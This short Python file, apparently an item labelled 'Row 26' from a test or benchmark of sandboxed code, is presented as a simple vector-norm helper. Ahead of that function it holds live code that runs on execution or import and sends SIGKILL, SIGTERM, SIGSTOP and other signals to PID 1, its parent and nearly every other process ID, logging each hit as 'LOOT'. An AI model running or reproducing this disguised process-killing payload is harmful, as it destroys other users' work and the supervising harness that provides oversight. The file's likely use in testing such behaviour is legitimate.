"""Row 26: kills its parent and everybody else whom it can name, by every signal that ends or stops a process."""

# %% norm
import os
import signal

parent, own = os.getppid(), {os.getpid(), *map(int, os.listdir("/proc/self/task"))}
for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT, signal.SIGHUP):
    for process in [1, parent, *range(2, 40_000)]:
        if process != 0 and process not in own:
            try:
                os.kill(process, number)
            except OSError:
                continue
            if process not in (1, parent):
                print("LOOT sent", number, "to", process)
print("TRIED")


def norm(x):
    return (x * x).sum() ** 0.5
